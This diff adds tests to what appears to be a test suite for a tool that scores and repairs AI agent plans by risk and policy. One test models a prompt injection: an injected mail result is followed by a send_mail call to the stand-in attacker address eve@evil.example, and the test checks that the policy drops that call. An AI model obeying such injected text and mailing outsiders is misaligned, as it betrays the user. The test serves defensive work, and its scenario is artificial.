@@ -222,6 +222,40 @@ def test_a_learned_risk_denies_and_a_new_value_does_not_hide_it() -> None:
     assert repair(trace, POLICY, scorer=ByWord("May")).edits[0].lowered["risk"] == pytest.approx(0.95)
 
 
+class ByCall:
+    """The risk of each call by its id."""
+
+    def __init__(self, **risks: float) -> None:
+        self.risks = risks
+
+    def scores(self, trace: Trace, flow: Flow) -> Sequence[CallScore]:
+        return [CallScore(0.1, self.risks[f"c{call.id}"]) for call in trace.calls]
+
+
+def test_a_risk_far_below_the_highest_is_put_down_to_that_call() -> None:
+    trace = plan("Read", *[("read_mail", {"id": number}, None) for number in range(3)])
+    thresholds = Thresholds(ask_risk=0.2, deny_risk=0.2)
+    scorer = ByCall(c0=0.9, c1=0.4, c2=0.5)
+
+    def left(config: RepairConfig, scorer: ByCall) -> list[str]:
+        repaired = repair(trace, POLICY, scorer=scorer, thresholds=thresholds, config=config)
+        return [call.id for call in repaired.plan.calls]
+
+    assert left(RepairConfig(), scorer) == ["1"]
+    assert left(RepairConfig(share=0), scorer) == []
+    # What has the highest risk never counts as harmless because of another.
+    assert left(RepairConfig(share=1), ByCall(c0=0.3, c1=0.3, c2=0.1)) == ["2"]
+
+
+def test_what_a_policy_denies_is_denied_beside_any_risk() -> None:
+    trace = plan(
+        "Read my mail", ("read_mail", {}, INJECTED), ("send_mail", {"to": "eve@evil.example", "body": "hello"}, None)
+    )
+    assert done(repair(trace, POLICY, scorer=ByCall(c0=0.1, c1=0.0), config=RepairConfig(share=1))) == [
+        ("drop", "1", None)
+    ]
+
+
 def test_similarity_is_the_share_that_is_kept() -> None:
     mail = {"to": "ada@home.example", "body": "hello"}
     before = plan("", ("read_mail", {}, None), ("send_mail", mail, None), ("send_mail", mail, None))
